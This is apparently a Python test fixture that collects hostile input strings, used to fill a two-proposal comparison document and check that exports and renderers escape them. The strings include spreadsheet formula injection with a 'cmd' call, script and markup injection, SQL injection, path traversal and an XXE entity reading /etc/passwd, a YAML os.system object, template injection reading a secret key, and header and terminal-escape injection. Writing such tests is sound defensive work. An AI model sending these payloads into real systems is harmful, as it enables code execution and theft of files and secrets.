"""Texts that do harm where a format takes them for more than text, and a comparison full of them."""

from typing import Any

FORMULAS = [
    "=1+1",
    "+1",
    "-1 soldier",
    "@SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "\u00a0=1+1",  # a blank that most code does not strip
    "\u200b=1+1",  # a sign that nobody sees
    "＝1+1",  # wide forms are read like the plain ones
    "﹢1",
    '=HYPERLINK("https://example.org/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
]
MARKUP = [
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;b&gt; & <b>",
    "<!-- not a comment",
    "]]> <![CDATA[",
    "one | two || three",
    "[press](javascript:alert(1)) ![x](https://example.org/x.png)",
    "`code` **bold** _lean_ ~~gone~~ # head",
    "back\\slash \\| pipe",
    "{{ 7 * 7 }} {% now 'Y' %}",
    "{\\rtf1 \\b bold}",
]
CHARACTERS = [
    "'quoted from the start",
    "''twice",
    'She said "no", then; left\tit',
    "a line\nand another\r\nand a third",
    "bell \x07, escape \x1b[31m, delete \x7f",
    "no character: \ufffe",
    "_x000D_ and _x0041_",
    "הסכם \u202eevil\u202c",
    "é 😀 Київ",
]
TEXTS = [*FORMULAS, *MARKUP, *CHARACTERS]

# What would be an element or an attribute of this name, wherever it came alive.
PROBE = "probe"
# Ways out of where a text is put, into whatever is around it there.
WAYS_OUT = [
    f"<{PROBE}>",
    f"</textarea></title></style></script></select><{PROBE}>",
    f'" {PROBE}="1" x="',
    f"' {PROBE}='1' x='",
    f"` {PROBE}=1 ",
    f'"><{PROBE} onload=alert(1)>',
    f"--><{PROBE}>",
    f"]]><{PROBE}/>",
    f'"}}]</script><{PROBE}>',
    f"<svg><{PROBE} xlink:href=javascript:alert(1)>",
    f"<w:t/></w:r><{PROBE}/>",
    f'<!DOCTYPE x [<!ENTITY {PROBE} SYSTEM "file:///etc/passwd">]>&{PROBE};',
    "<?php echo 1 ?><% = 1 %>#{1}",
    "{% include 'admin/base.html' %}{{ settings.SECRET_KEY }}${7*7}<%= 7*7 %>",
    "!!python/object/apply:os.system ['id']",
    "&anchor x *anchor <<: *anchor",
    "- a\nb: c\n--- \n... # comment",
    "'; DROP TABLE proposals_clause; --",
    "1' OR '1'='1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    f"x\r\nSet-Cookie: {PROBE}=1\r\n\r\n<{PROBE}>",
    "x\n2031-05-01 00:00:00,000 INFO root: a forged line",
    "\x1b]0;title\x07\x1b[2J\x1b[1;1H",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "<https://evil.example> [x]: javascript:alert(1)",
    "![x](javascript:alert(1) 'x') <javascript:alert(1)>",
    "%0d%0aX: y %00 %2e%2e%2f %u202e",
]
ALL = [*TEXTS, *WAYS_OUT]


def drafts() -> dict[str, Any]:
    """The body of a comparison of two texts: the same hostile words in both, as label, number, text and locator."""
    clauses = [
        {"id": f"c{place:02}", "number": text[:40].strip(), "label": text, "text": text, "locator": text, "note": text}
        for place, text in enumerate(TEXTS, 1)
    ]
    return {"proposals": [{"slug": "leak", "clauses": clauses}, {"slug": "other-leak", "clauses": clauses}]}
